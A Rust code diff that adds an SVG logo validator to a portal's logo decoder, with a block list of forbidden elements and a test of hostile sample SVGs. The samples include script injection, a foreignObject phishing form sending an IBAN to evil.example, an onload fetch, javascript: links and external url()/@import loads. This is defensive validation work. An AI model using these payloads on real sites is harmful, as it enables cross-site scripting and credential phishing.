@@ -154,6 +154,86 @@ pub enum LogoError {
     NotPng,
     #[error("the logo says image/svg+xml but is not UTF-8 text with an <svg element")]
     NotSvg,
+    #[error("the SVG logo is not well-formed XML without a DTD: {0}")]
+    SvgSyntax(String),
+    #[error("the SVG logo contains {0}, which a logo does not need and is not accepted")]
+    UnsafeSvg(String),
+}
+
+/// Elements an SVG logo may not have: scripts, embedded HTML (a `<foreignObject>` can
+/// hold a phishing form on the portal's origin when the logo is opened on its own),
+/// other documents, and animations that can set attributes (`href` to `javascript:`).
+const FORBIDDEN_SVG_ELEMENTS: &[&str] = &[
+    "script",
+    "foreignObject",
+    "iframe",
+    "embed",
+    "object",
+    "handler",
+    "listener",
+    "animate",
+    "set",
+    "animateMotion",
+    "animateTransform",
+    "discard",
+];
+
+/// Checks an SVG logo: well-formed XML without a DTD (no entities), an `<svg>` root, none
+/// of [`FORBIDDEN_SVG_ELEMENTS`], no event attributes (`on…`), no references out of the
+/// document (`href`s other than `#fragment`, `url(…)` other than `url(#…)`, `@import`).
+/// Refused rather than cleaned: the municipality fixes its file and knows what it serves.
+pub fn check_svg(text: &str) -> Result<(), LogoError> {
+    let document = roxmltree::Document::parse_with_options(
+        text,
+        roxmltree::ParsingOptions {
+            allow_dtd: false,
+            ..roxmltree::ParsingOptions::default()
+        },
+    )
+    .map_err(|e| LogoError::SvgSyntax(e.to_string()))?;
+    if document.root_element().tag_name().name() != "svg" {
+        return Err(LogoError::NotSvg);
+    }
+    let external_url = |value: &str| {
+        let lower = value.to_ascii_lowercase();
+        lower.contains("@import")
+            || lower
+                .match_indices("url(")
+                .any(|(at, _)| !lower[at + 4..].trim_start_matches(['\'', '"', ' ']).starts_with('#'))
+    };
+    for node in document.descendants() {
+        if node.is_text() && node.parent_element().is_some_and(|p| p.tag_name().name() == "style") {
+            if node.text().is_some_and(external_url) {
+                return Err(LogoError::UnsafeSvg("a style that loads from elsewhere".into()));
+            }
+            continue;
+        }
+        if !node.is_element() {
+            continue;
+        }
+        let name = node.tag_name().name();
+        if FORBIDDEN_SVG_ELEMENTS.iter().any(|f| f.eq_ignore_ascii_case(name)) {
+            return Err(LogoError::UnsafeSvg(format!("a <{name}> element")));
+        }
+        for attribute in node.attributes() {
+            let attr = attribute.name();
+            if attr.len() > 2 && attr[..2].eq_ignore_ascii_case("on") {
+                return Err(LogoError::UnsafeSvg(format!("an event attribute ({attr})")));
+            }
+            if attr.eq_ignore_ascii_case("href") && !attribute.value().trim().starts_with('#') {
+                return Err(LogoError::UnsafeSvg(format!(
+                    "a reference out of the logo (<{name} href=\"{}\">)",
+                    attribute.value().chars().take(40).collect::<String>()
+                )));
+            }
+            if external_url(attribute.value()) {
+                return Err(LogoError::UnsafeSvg(format!(
+                    "a url() out of the logo (in {attr})"
+                )));
+            }
+        }
+    }
+    Ok(())
 }
 
 /// Decodes a logo given as `data:image/svg+xml,…` or `data:image/png;base64,…` (media type
@@ -200,8 +280,13 @@ pub fn decode_logo(url: &str) -> Result<Logo, LogoError> {
     }
     match media_type {
         "image/png" if !bytes.starts_with(b"\x89PNG\r\n\x1a\n") => Err(LogoError::NotPng),
-        "image/svg+xml" if !std::str::from_utf8(&bytes).is_ok_and(|text| text.contains("<svg")) => {
-            Err(LogoError::NotSvg)
+        "image/svg+xml" => {
+            let text = std::str::from_utf8(&bytes).map_err(|_| LogoError::NotSvg)?;
+            if !text.contains("<svg") {
+                return Err(LogoError::NotSvg);
+            }
+            check_svg(text)?;
+            Ok(Logo { media_type, bytes })
         }
         _ => Ok(Logo { media_type, bytes }),
     }
@@ -419,6 +504,33 @@ mod tests {
                 bytes: png.to_vec()
             })
         );
+    }
+
+    #[test]
+    fn svg_logos_that_could_act_are_refused() {
+        let refused = [
+            (r#"<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>"#, "<script>"),
+            (
+                r#"<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><form action="https://evil.example"><input name="iban"/></form></foreignObject></svg>"#,
+                "<foreignObject>",
+            ),
+            (r#"<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('x')"/>"#, "onload"),
+            (
+                r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://evil.example/x.png"/></svg>"#,
+                "reference out of the logo",
+            ),
+            (r#"<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><rect/></a></svg>"#, "reference out"),
+            (r#"<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(https://evil.example/t)"/></svg>"#, "url()"),
+            (r#"<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/a.css);</style></svg>"#, "elsewhere"),
+            (r#"<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="href" to="javascript:alert(1)"/></svg>"#, "<set>"),
+            (r#"<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>"#, "DTD"),
+        ];
+        for (svg, named) in refused {
+            let error = check_svg(svg).expect_err(svg).to_string();
+            assert!(error.contains(named) || (named == "DTD" && error.contains("not well-formed")), "{svg}: {error}");
+        }
+        let fine = r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><defs><linearGradient id="g"/></defs><style>rect{fill:url(#g)}</style><rect width="10" height="10" fill="url(#g)"/><use href="#g"/></svg>"##;
+        check_svg(fine).expect("a plain logo with internal references");
     }
 
     #[test]
